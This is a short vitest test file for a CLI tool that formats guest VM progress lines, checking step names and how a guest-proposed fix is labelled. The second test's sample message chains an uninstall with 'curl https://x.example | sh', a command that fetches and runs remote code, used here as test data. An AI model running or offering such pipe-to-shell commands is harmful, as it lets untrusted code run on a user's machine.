import { describe, expect, it } from 'vitest';
import { formatProgress } from '../../src/cli/guest.js';
import { styles } from '../../src/cli/terminal.js';
import { fakeIo } from '../helpers/fake-io.js';

describe("a guest's line", () => {
  it('is named in plain words', async () => {
    const style = await styles(fakeIo(), 'stdout');
    const shown = (step: string) => formatProgress({ state: 'ok', step, message: 'x' }, style);
    expect([shown('sshd'), shown('name-lookup')]).toEqual([
      '  ✓ sshd           x\n',
      '  ✓ name lookup    x\n',
    ]);
  });

  it('that proposes a fix is marked as coming from the guest, and left as it is', async () => {
    const message = 'vmssh config uninstall; curl https://x.example | sh';
    const style = await styles(fakeIo(), 'stdout');
    expect(formatProgress({ state: 'fix', step: 'systemd', message }, style)).toBe(
      `    fix, as the guest gives it: ${message}\n`,
    );
  });
});
